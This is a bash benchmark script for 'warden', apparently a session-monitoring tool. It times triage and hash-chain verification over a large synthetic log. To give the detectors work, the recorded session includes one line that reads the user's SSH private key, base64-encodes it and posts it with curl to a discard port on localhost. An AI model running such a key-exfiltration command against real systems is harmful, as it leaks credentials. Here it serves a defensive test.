#!/usr/bin/env bash
# Triage speed (issue #16): `warden triage` on a log of N records (default 1,000,000; target
# under 5 s), made from a real supervised session of ordinary work (git, a build with cc, file
# reads and writes, a key read and sent, so that the correlating detections have work) repeated
# with a valid hash chain. Prints the median of ROUNDS runs and the time per 100,000 records;
# the chain check (`warden replay --verify` alone) is timed beside it.
# Usage: sudo bench/triage.sh [N=1000000] [ROUNDS=3]
set -euo pipefail
cd "$(dirname "$0")/.."
export PATH="$HOME/.cargo/bin:$PATH"
n=${1:-1000000}
rounds=${2:-3}
cargo build --locked --release --bins -q
cargo build --locked --release -q -p warden-triage --example synthetic_log
warden=$PWD/target/release/warden
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
. bench/lib.sh

mkdir -p "$work/ws" && cd "$work/ws"
"$warden" run --quiet --state-dir "$work/state" --workspace "$work/ws" -- sh -c '
  git init -q . && printf "int main(void){return 0;}\n" > m.c && cc -o m m.c && ./m
  git add m.c && git -c user.name=b -c user.email=b@b commit -qm one
  ls -R /usr/share/doc > list.txt; wc -l list.txt > /dev/null; rm list.txt
  for i in 1 2 3 4 5; do echo $i > f$i; cat f$i > /dev/null; rm f$i; done
  cat ~/.ssh/id_rsa 2>/dev/null | base64 | curl -s --max-time 1 -d @- http://127.0.0.1:9/ || true
' > /dev/null 2>&1 || true
cd - > /dev/null
template=$(ls "$work"/state/sessions/*/events.jsonl | head -1)
./target/release/examples/synthetic_log "$template" "$work/big.jsonl" "$n"
echo "== triage of $(wc -l < "$work/big.jsonl") records ($(du -h "$work/big.jsonl" | cut -f1)), template $(wc -l < "$template") records"

time_ns() {
  local t0 t1
  t0=$(date +%s%N)
  "$@" > /dev/null || true
  t1=$(date +%s%N)
  echo $((t1 - t0))
}
triage_runs=() verify_runs=()
for ((r = 0; r < rounds; r++)); do
  triage_runs+=("$(time_ns "$warden" triage "$work/big.jsonl" --no-baseline)")
  verify_runs+=("$(time_ns "$warden" replay "$work/big.jsonl" --verify)")
done
t=$(median "${triage_runs[@]}")
v=$(median "${verify_runs[@]}")
awk -v t="$t" -v v="$v" -v n="$n" 'BEGIN {
  printf "  warden triage: median %.2f s (%.3f s per 100,000 records; target < 5 s for 1,000,000)\n", t/1e9, t/1e9*100000/n
  printf "  of which the hash chain check alone (replay --verify) takes %.2f s\n", v/1e9 }'
"$warden" triage "$work/big.jsonl" --no-baseline | grep -E "^(CRITICAL|HIGH|MEDIUM|LOW)" | sed 's/^/  finding: /' || true
